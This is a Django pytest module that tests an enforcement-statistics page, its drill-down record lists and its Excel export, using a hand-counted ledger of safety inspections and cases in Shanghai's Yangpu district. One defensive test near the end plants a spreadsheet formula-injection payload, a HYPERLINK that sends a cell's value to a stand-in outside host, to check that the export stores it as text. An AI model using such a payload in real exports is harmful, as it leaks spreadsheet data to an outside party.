"""执法统计: the figures against a hand-counted ledger, every number's link opening exactly
the records it counts, scoping (another district's records, a department's own only), the
workbook holding the page's numbers, and an empty period showing 0 and — .

The ledger is built with the ORM (the on-site and case services are not what is tested
here); the hazards behind the findings go through the hazard services (``hazard_in``).
Hand counts for 杨浦区, year ``YEAR`` (E = 杨浦区应急管理局, H = 杨浦区建设和管理委员会):

=====  ===  ==============  =========  ======  =====  =========================================
insp.  by   unit            kind       state   month  findings (hazard) → cases
=====  ===  ==============  =========  ======  =====  =========================================
I1     E    chem (殷行)     planned    done    2      closed, registered, pass → C1, C2
I2     E    factory (平凉)  random     done    3      pass only
I3     E    chem            special    done    3      closed → C6 (decided the next year)
I4     H    site (殷行)     planned    done    4      fail without a hazard
I5     E    chem            planned    open    4      (fail: not counted)
I6     E    factory         planned    voided  4
I7     E    suspended unit  complaint  done    5      fail, hazard voided (误报: not counted)
I8     E    chem            planned    done    prev.  → C8 (decided 1月, 1000)
I10    E    factory         random     done    6      rectifying → C3 (investigating)
=====  ===  ==============  =========  ======  =====  =========================================

C1 decided 20000 (3月), C2 closed 5000 (4月).
Unannounced: I1, I3, I10. Other cases: C4 (H, site, executed, 3000, 5月). Not counted: C5
dropped. Plans: E annual approved (chem 3, factory 2, suspended unit 0), H annual approved
(site 2), E first-quarter plan (chem 1), 交通委 draft (chem 9). Draws of E: 3月 (chem,
factory; site cancelled), 5月 voided (chem), the year before (factory). 虹口: its plan
(shop 4), a draw (shop), I9 with a finding, C7 decided 10000 — none of it in 杨浦.
"""

import re
from datetime import date, datetime
from html import unescape
from io import BytesIO
from urllib.parse import parse_qs, urlsplit

import pytest
from django.db import connection
from django.http import QueryDict
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from anjian.enterprises.services import enterprise_create
from anjian.hazards.choices import State
from anjian.hazards.tests.factories import hazard_in
from anjian.inspections.case_models import Case, CaseState
from anjian.inspections.choices import DrawState, TaskState
from anjian.inspections.figures import selectors
from anjian.inspections.figures.page import read_filters, region_level
from anjian.inspections.figures.report import EnforcementReport
from anjian.inspections.models import CheckMatter, Draw, InspectionTask
from anjian.inspections.plan_models import InspectionPlan, PlanEntry, PlanState
from anjian.inspections.record_models import ChecklistEntry, Inspection, InspectionMark
from anjian.regions.models import Department, Industry, Region
from testsupport import world

pytestmark = pytest.mark.django_db

YEAR = 2025
PAGE = reverse("inspections:figures")
RECORDS = reverse("inspections:figures_records")
NUMBER_LINK = re.compile(
    r'<a\b[^>]*href="(/inspections/figures/records/\?[^"]*)"[^>]*>\s*([\d,]+)\s*</a>'
)


def at(month: int, day: int = 10, year: int = YEAR) -> datetime:
    return timezone.make_aware(datetime(year, month, day, 10, 0))


class Ledger:
    """The hand-counted records (see the module docstring)."""

    def __init__(self):
        self.admin = world.actor("admin")
        self.e = Department.objects.get(name="杨浦区应急管理局")
        self.h = Department.objects.get(name="杨浦区建设和管理委员会")
        self.hk = Department.objects.get(name="虹口区应急管理局")
        self.chem = world.enterprise("yinhang_chemical")
        self.site = world.enterprise("yinhang_site")
        self.factory = world.enterprise("pingliang_factory")
        self.shop = world.enterprise("hongkou_shop")
        self.suspended = self.unit(
            "上海平凉停产化工有限公司", 71, world.PINGLIANG, "hazchem", "suspended"
        )
        self.idle = self.unit(
            "上海殷行待查机械有限公司", 72, world.YINHANG, "machinery", "operating"
        )
        self.entries = iter(ChecklistEntry.objects.order_by("id"))
        self.plans()
        self.draws()
        self.inspections()
        self.cases()

    def unit(self, name, seed, street, industry, status):
        data = world.enterprise_data(
            name=name,
            credit_code=world.credit_code(seed),
            street=Region.objects.get(code=street),
            industry=Industry.objects.get(code=industry),
            economic_code="C2614" if industry == "hazchem" else "C3411",
            status=status,
        )
        return enterprise_create(by=self.admin, data=data)

    def plan(self, department, visits: dict, *, quarter=0, state=PlanState.APPROVED):
        plan = InspectionPlan.objects.create(
            department=department,
            year=YEAR,
            quarter=quarter,
            title=f"{department.short_name}{YEAR}年计划{quarter}",
            state=state,
            policy_basis="测试",
            created_by=self.admin,
        )
        for unit, n in visits.items():
            PlanEntry.objects.create(
                plan=plan, enterprise=unit, grade="B", proposed_visits=n, visits=n
            )

    def plans(self):
        self.plan(self.e, {self.chem: 3, self.factory: 2, self.suspended: 0})
        self.plan(self.h, {self.site: 2})
        self.plan(self.e, {self.chem: 1}, quarter=1)
        self.plan(
            Department.objects.get(name="杨浦区交通委员会"), {self.chem: 9}, state=PlanState.DRAFT
        )
        self.plan(self.hk, {self.shop: 4})

    def draw(self, department, title, drawn_on, tasks: dict, state=DrawState.PUBLISHED):
        matter, _created = CheckMatter.objects.get_or_create(
            department=department, name="测试抽查事项", defaults={"basis": "安全生产法"}
        )
        drawn = Draw.objects.create(
            department=department,
            matter=matter,
            title=title,
            count=len(tasks),
            drawn_on=drawn_on,
            publish_by=drawn_on,
            seed="0" * 64,
            engine="test",
            target_fingerprint="t",
            inspector_fingerprint="i",
            rules_fingerprint="r",
            target_pool_size=3,
            inspector_pool_size=2,
            record="{}",
            state=state,
            created_by=self.admin,
        )
        for position, (unit, task_state) in enumerate(tasks.items()):
            InspectionTask.objects.create(
                draw=drawn,
                department=department,
                enterprise=unit,
                position=position,
                state=task_state,
            )

    def draws(self):
        done, assigned = TaskState.DONE, TaskState.ASSIGNED
        self.draw(
            self.e,
            "三月抽查",
            date(YEAR, 3, 5),
            {self.chem: done, self.factory: assigned, self.site: TaskState.CANCELLED},
        )
        self.draw(self.e, "五月抽查", date(YEAR, 5, 2), {self.chem: assigned}, DrawState.VOIDED)
        self.draw(self.e, "上年抽查", date(YEAR - 1, 12, 20), {self.factory: done})
        self.draw(self.hk, "虹口抽查", date(YEAR, 4, 1), {self.shop: assigned})

    def inspection(
        self, department, unit, kind, when, *, state="done", unannounced=False, marks=()
    ):
        inspection = Inspection.objects.create(
            department=department,
            enterprise=unit,
            kind=kind,
            checklist_id=ChecklistEntry.objects.values_list("template_id", flat=True).first(),
            started_at=when,
            state=state,
            unannounced=unannounced,
            created_by=self.admin,
        )
        for result, hazard in marks:
            InspectionMark.objects.create(
                inspection=inspection,
                entry=next(self.entries),
                result=result,
                hazard=hazard,
                marked_by=self.admin,
            )
        return inspection

    def hazard(self, state, unit):
        return hazard_in(state, by=self.admin, enterprise=unit)

    def inspections(self):
        hazard, e, h = self.hazard, self.e, self.h
        self.i1 = self.inspection(
            e,
            self.chem,
            "planned",
            at(2),
            unannounced=True,
            marks=[
                ("fail", hazard(State.CLOSED, self.chem)),
                ("fail", hazard(State.REGISTERED, self.chem)),
                ("pass", None),
            ],
        )
        self.inspection(e, self.factory, "random", at(3, 15), marks=[("pass", None)])
        self.i3 = self.inspection(
            e,
            self.chem,
            "special",
            at(3, 20),
            unannounced=True,
            marks=[("fail", hazard(State.CLOSED, self.chem))],
        )
        self.inspection(h, self.site, "planned", at(4, 5), marks=[("fail", None)])
        self.inspection(e, self.chem, "planned", at(4, 10), state="open", marks=[("fail", None)])
        self.inspection(e, self.factory, "planned", at(4, 11), state="voided")
        self.inspection(
            e,
            self.suspended,
            "complaint",
            at(5, 6),
            marks=[("fail", hazard(State.VOID, self.chem))],
        )
        self.i8 = self.inspection(e, self.chem, "planned", at(12, 30, YEAR - 1))
        self.i9 = self.inspection(
            self.hk, self.shop, "planned", at(2, 1), unannounced=True, marks=[("fail", None)]
        )
        self.i10 = self.inspection(
            e,
            self.factory,
            "random",
            at(6, 1),
            unannounced=True,
            marks=[("fail", hazard(State.RECTIFYING, self.factory))],
        )

    def case(self, department, unit, state, *, inspection=None, fine=None, decided_on=None):
        return Case.objects.create(
            number=f"案{Case.objects.count() + 1}",
            department=department,
            enterprise=unit,
            inspection=inspection,
            title="违法行为",
            facts="事实",
            fine=fine,
            filed_on=date(YEAR, 1, 2),
            decide_by=date(YEAR + 1, 1, 2),
            decided_on=decided_on,
            state=state,
            created_by=self.admin,
        )

    def cases(self):
        e, c = self.e, CaseState
        self.case(
            e, self.chem, c.DECIDED, inspection=self.i1, fine=20000, decided_on=date(YEAR, 3, 1)
        )
        self.case(
            e, self.chem, c.CLOSED, inspection=self.i1, fine=5000, decided_on=date(YEAR, 4, 1)
        )
        self.case(e, self.factory, c.INVESTIGATING, inspection=self.i10)
        self.case(self.h, self.site, c.EXECUTED, fine=3000, decided_on=date(YEAR, 5, 10))
        self.case(e, self.factory, c.DROPPED)
        self.case(e, self.chem, c.DECIDED, inspection=self.i3, decided_on=date(YEAR + 1, 1, 5))
        self.case(
            self.hk,
            self.shop,
            c.DECIDED,
            inspection=self.i9,
            fine=10000,
            decided_on=date(YEAR, 3, 3),
        )
        self.case(
            e, self.chem, c.DECIDED, inspection=self.i8, fine=1000, decided_on=date(YEAR, 1, 15)
        )


@pytest.fixture
def ledger(db):
    return Ledger()


def report(actor: str, month_from=1, month_to=12, **where):
    user, where = world.actor(actor), selectors.Where(**where)
    period = selectors.Period(YEAR, month_from, month_to)
    return EnforcementReport(user, period, where, level=region_level(user, where)).read()


FIGURES = (
    "plan_visits", "drawn_tasks", "planned", "inspected", "done", "findings", "rectified",
    "violating", "punished", "punished_cases", "other_cases", "fined_cases", "fines",
    "unannounced", "units", "covered", "pool",
)  # fmt: skip


def counts(row) -> dict:
    return {name: getattr(row, name) for name in FIGURES}


YANGPU = {
    "plan_visits": 7, "drawn_tasks": 2, "planned": 9, "inspected": 4, "done": 6, "findings": 5,
    "rectified": 2, "violating": 4, "punished": 2, "punished_cases": 3, "other_cases": 1,
    "fined_cases": 4, "fines": 29000, "unannounced": 3, "units": 4, "covered": 3, "pool": 4,
}  # fmt: skip
EMERGENCY = {
    "plan_visits": 5, "drawn_tasks": 2, "planned": 7, "inspected": 3, "done": 5, "findings": 4,
    "rectified": 2, "violating": 3, "punished": 2, "punished_cases": 3, "other_cases": 0,
    "fined_cases": 3, "fines": 26000, "unannounced": 3, "units": 3, "covered": 2, "pool": 3,
}  # fmt: skip
HOUSING = {
    "plan_visits": 2, "drawn_tasks": 0, "planned": 2, "inspected": 1, "done": 1, "findings": 1,
    "rectified": 0, "violating": 1, "punished": 0, "punished_cases": 0, "other_cases": 1,
    "fined_cases": 1, "fines": 3000, "unannounced": 0, "units": 1, "covered": 1, "pool": 1,
}  # fmt: skip
YINHANG = {
    "plan_visits": 5, "drawn_tasks": 1, "planned": 6, "inspected": 2, "done": 3, "findings": 4,
    "rectified": 2, "violating": 3, "punished": 2, "punished_cases": 3, "other_cases": 1,
    "fined_cases": 4, "fines": 29000, "unannounced": 2, "units": 2, "covered": 2, "pool": 3,
}  # fmt: skip
PINGLIANG = {
    "plan_visits": 2, "drawn_tasks": 1, "planned": 3, "inspected": 2, "done": 3, "findings": 1,
    "rectified": 0, "violating": 1, "punished": 0, "punished_cases": 0, "other_cases": 0,
    "fined_cases": 0, "fines": 0, "unannounced": 1, "units": 2, "covered": 1, "pool": 1,
}  # fmt: skip


def test_the_district_figures_are_the_hand_counted_ones(ledger):
    figures = report("district_official")
    assert counts(figures.total) == YANGPU
    total = figures.total
    assert (total.inspection_rate, total.rectification_rate) == (44.4, 40.0)
    assert (total.penalty_rate, total.coverage_rate, total.unannounced_share) == (50.0, 75.0, 50.0)
    by_department = {row.key: counts(row) for row in figures.departments}
    assert by_department == {ledger.e.pk: EMERGENCY, ledger.h.pk: HOUSING}
    by_street = {row.key: counts(row) for row in figures.regions}
    assert by_street == {world.YINHANG: YINHANG, world.PINGLIANG: PINGLIANG}
    assert [row.label for row in figures.regions] == ["平凉路街道", "殷行街道"]


def test_the_months_count_each_month_and_the_cumulative_rate_against_the_whole_year(ledger):
    months = {row.key: row for row in report("district_official").months}
    assert list(months) == list(range(1, 13))
    assert [months[m].inspected for m in range(1, 8)] == [0, 1, 1, 1, 0, 1, 0]
    assert [months[m].cumulative for m in range(1, 8)] == [0, 1, 2, 3, 3, 4, 4]
    assert [months[m].fines for m in range(1, 6)] == [1000, 0, 20000, 5000, 3000]
    assert months[5].other_cases == 1 and months[5].done == 1 and months[5].findings == 0
    assert months[3].findings == 1 and months[3].punished == 1 and months[3].violating == 1
    assert all(row.year_planned == 9 for row in months.values())
    assert months[6].cumulative_rate == 44.4
    assert months[1].cumulative_rate == 0.0


def test_a_month_range_counts_only_its_months_but_the_whole_year_s_plan(ledger):
    figures = report("district_official", 3, 4)
    total = figures.total
    assert (total.plan_visits, total.drawn_tasks, total.inspected) == (7, 2, 2)
    assert (total.findings, total.violating, total.punished, total.fines) == (2, 2, 1, 25000)
    assert [(row.key, row.cumulative) for row in figures.months] == [(3, 2), (4, 3)]
    assert report("district_official", 5, 5).total.drawn_tasks == 0  # the voided draw


def links_on(html: str) -> list[tuple[str, int]]:
    return [(unescape(h), int(n.replace(",", ""))) for h, n in NUMBER_LINK.findall(html)]


def listed(user, href: str) -> int:
    query = QueryDict(urlsplit(href).query)
    filters = read_filters(user, query)
    assert not filters.errors, (href, filters.errors)
    sections = selectors.records(user, query["figure"], filters.period, filters.where)
    return sum(section.total() for section in sections)


@pytest.mark.parametrize(
    "actor", ["admin", "district_official", "housing_official", "inspector", "neighbour_official"]
)
@pytest.mark.parametrize("query", [{"year": YEAR}, {"year": YEAR, "month_from": 3, "month_to": 4}])
def test_every_number_opens_exactly_the_records_it_counts(ledger, client_for, actor, query):
    user = world.actor(actor)
    response = client_for(user).get(PAGE, query)
    assert response.status_code == 200
    links = links_on(response.content.decode())
    assert len(links) >= 40, "the page's numbers are links"
    wrong = [
        (href, shown, listed(user, href)) for href, shown in links if listed(user, href) != shown
    ]
    assert not wrong, "figure ≠ its list (href, shown, listed):\n" + "\n".join(map(str, wrong))


def test_each_list_page_shows_the_figure_and_its_records(ledger, client_for):
    """Following every distinct link of the district page: the list's total is the number
    shown, and a count figure lists that many rows (共 N 条)."""
    client = client_for(world.actor("district_official"))
    html = client.get(PAGE, {"year": YEAR}).content.decode()
    seen = {}
    for href, shown in links_on(html):
        seen.setdefault(href, shown)
    for href, shown in seen.items():
        page = client.get(href)
        assert page.status_code == 200, href
        text = page.content.decode()
        total = int(re.search(r'data-total="(\d+)"', text).group(1))
        assert total == shown, href
        figure = parse_qs(urlsplit(href).query)["figure"][0]
        if figure not in ("planned", "plan_visits", "fines") and shown:
            assert f"共 {shown} 条" in text, href


def test_the_lists_name_what_they_count(ledger, client_for):
    client = client_for(world.actor("district_official"))
    findings = client.get(RECORDS, {"figure": "findings", "year": YEAR}).content.decode()
    assert "已销号" in findings and "已上账" in findings and "整改中" in findings
    planned = client.get(RECORDS, {"figure": "planned", "year": YEAR}).content.decode()
    assert 'data-section="plan_visits"' in planned and 'data-section="drawn_tasks"' in planned
    assert "上海殷行化工有限公司" in planned
    pool = client.get(RECORDS, {"figure": "pool", "year": YEAR}).content.decode()
    assert "上海殷行待查机械有限公司" in pool and "上海平凉停产化工有限公司" not in pool
    assert client.get(RECORDS, {"figure": "nonsense"}).status_code == 404


def test_another_district_s_records_are_not_counted(ledger):
    hongkou = report("neighbour_official").total
    assert (hongkou.plan_visits, hongkou.drawn_tasks, hongkou.inspected) == (4, 1, 1)
    assert (hongkou.findings, hongkou.fines, hongkou.unannounced) == (1, 10000, 1)
    admin = report("admin").total
    assert admin.inspected == YANGPU["inspected"] + 1
    assert admin.fines == YANGPU["fines"] + 10000
    assert {row.key for row in report("admin").regions} == {world.YANGPU, world.HONGKOU}
    assert counts(report("leader").total) == YANGPU


def test_a_department_user_sees_only_its_department(ledger, client_for):
    assert counts(report("housing_official").total) == HOUSING
    assert [row.key for row in report("housing_official").departments] == [ledger.h.pk]
    assert counts(report("inspector").total) == EMERGENCY  # an 执法人员 of 应急局
    user = world.actor("housing_official")
    page = client_for(user).get(PAGE, {"year": YEAR, "department": ledger.e.pk})
    assert "只能查看本部门的执法统计" in page.content.decode()
    assert page.context["total"].inspected == 1
    listed_cases = selectors.records(user, "fines", selectors.Period(YEAR), selectors.Where())
    assert {case.department_id for case in listed_cases[0].rows} == {ledger.h.pk}


def test_a_row_filter_narrows_every_figure(ledger):
    emergency = report("district_official", department_id=ledger.e.pk).total
    assert counts(emergency) == EMERGENCY
    yinhang = report("district_official", region=world.YINHANG).total
    assert counts(yinhang) == YINHANG


def test_the_export_holds_the_page_s_numbers(ledger, client_for):
    client = client_for(world.actor("district_official"))
    page = client.get(PAGE, {"year": YEAR})
    total = page.context["total"]
    response = client.get(reverse("inspections:figures_export"), {"year": YEAR})
    assert response.status_code == 200
    book = load_workbook(BytesIO(response.content))
    values = {row[0]: row[1] for row in book["执法统计"].iter_rows(values_only=True)}
    assert values["应检查次数"] == total.planned == 9
    assert values["已检查次数"] == total.inspected
    assert values["检查率"] == "44.4%"
    assert values["罚款金额（元）"] == 29000
    assert values["覆盖率"] == "75.0%"
    assert values["四不两直"] == 3
    departments = list(book["按部门"].iter_rows(values_only=True))
    header = departments[0]
    emergency = dict(
        zip(header, next(r for r in departments if r[0] == "杨浦区应急管理局"), strict=True)
    )
    assert (emergency["应检查"], emergency["已检查"], emergency["罚款金额（元）"]) == (7, 3, 26000)
    streets = {row[0]: row for row in book["按街道"].iter_rows(values_only=True)}
    assert set(streets) >= {"殷行街道", "平凉路街道"}
    months = list(book["按月份"].iter_rows(values_only=True))
    assert len(months) == 13 and months[6][0] == "6月"
    explained = [row[0] for row in book["导出说明"].iter_rows(values_only=True)]
    assert "应检查次数" in explained and "处罚率" in explained


def test_an_empty_period_shows_zero_and_a_dash(ledger, client_for):
    client = client_for(world.actor("district_official"))
    response = client.get(PAGE, {"year": 2019})
    assert response.status_code == 200
    total = response.context["total"]
    assert (total.planned, total.inspected, total.findings, total.fines) == (0, 0, 0, 0)
    assert total.inspection_rate is None and total.penalty_rate is None
    html = response.content.decode()
    assert re.search(r'data-figure="inspection_rate".*?<div class="h1 mb-1">—</div>', html, re.S)
    workbook = client.get(reverse("inspections:figures_export"), {"year": 2019})
    values = {
        r[0]: r[1]
        for r in load_workbook(BytesIO(workbook.content))["执法统计"].iter_rows(values_only=True)
    }
    assert values["检查率"] == "—" and values["应检查次数"] == 0


def test_the_page_defaults_to_this_year_to_this_month(client_for, db):
    today = timezone.localdate()
    response = client_for(world.actor("district_official")).get(PAGE)
    period = response.context["filters"].period
    assert (period.year, period.month_from, period.month_to) == (today.year, 1, today.month)


def test_bad_filters_say_what_was_wrong_and_keep_the_rest(ledger, client_for):
    client = client_for(world.actor("district_official"))
    swapped = client.get(PAGE, {"year": YEAR, "month_from": 6, "month_to": 2})
    assert "起始月份晚于截止月份，已对调" in swapped.content.decode()
    period = swapped.context["filters"].period
    assert (period.year, period.month_from, period.month_to) == (YEAR, 2, 6)
    outside = client.get(PAGE, {"year": YEAR, "region": world.HONGKOU})
    assert "所选区域不在您的管辖范围内" in outside.content.decode()
    assert outside.context["total"].inspected == YANGPU["inspected"]
    assert "年度无效" in client.get(PAGE, {"year": "明年"}).content.decode()


def test_the_page_reads_the_same_number_of_statements_whatever_the_records(
    ledger, client_for, django_assert_max_num_queries
):
    """A handful of grouped statements, not a loop over records: ten more inspections with
    findings and cases cost no statement more."""
    client = client_for(world.actor("district_official"))
    client.get(PAGE, {"year": YEAR})
    with CaptureQueriesContext(connection) as before:
        client.get(PAGE, {"year": YEAR})
    for n in range(10):
        inspection = ledger.inspection(
            ledger.h, ledger.site, "planned", at(7, n + 1), marks=[("fail", None)]
        )
        ledger.case(
            ledger.h,
            ledger.site,
            CaseState.DECIDED,
            inspection=inspection,
            fine=100,
            decided_on=date(YEAR, 8, 1),
        )
    with django_assert_max_num_queries(len(before)):
        response = client.get(PAGE, {"year": YEAR})
    assert response.context["total"].inspected == YANGPU["inspected"] + 10
    assert len(before) <= 20, [q["sql"][:80] for q in before.captured_queries]


def test_a_name_that_looks_like_a_formula_is_exported_as_text(ledger, client_for):
    formula = '=HYPERLINK("http://x.example/?"&C2,"张三")'
    Department.objects.filter(pk=ledger.e.pk).update(name=formula)
    client = client_for(world.actor("district_official"))
    response = client.get(reverse("inspections:figures_export"), {"year": YEAR})
    cells = [
        c for row in load_workbook(BytesIO(response.content))["按部门"].iter_rows() for c in row
    ]
    assert not [c for c in cells if c.data_type == "f"]
    assert formula in {c.value for c in cells if c.data_type == "s"}


def test_on_a_phone_the_rows_are_cards_with_the_same_links(ledger, client_for):
    client = client_for(world.actor("district_official"))
    html = client.get(PAGE, {"year": YEAR}).content.decode()
    cards = html[html.index('id="by-department"') : html.index('id="by-region"')]
    phone = cards[cards.index("data-cards") :]
    assert phone.count("data-card>") == 2 and "杨浦区应急管理局" in phone
    assert len(NUMBER_LINK.findall(phone)) == len(NUMBER_LINK.findall(cards)) // 2
    records = client.get(RECORDS, {"figure": "done", "year": YEAR}).content.decode()
    assert records.count("data-card>") == YANGPU["done"]
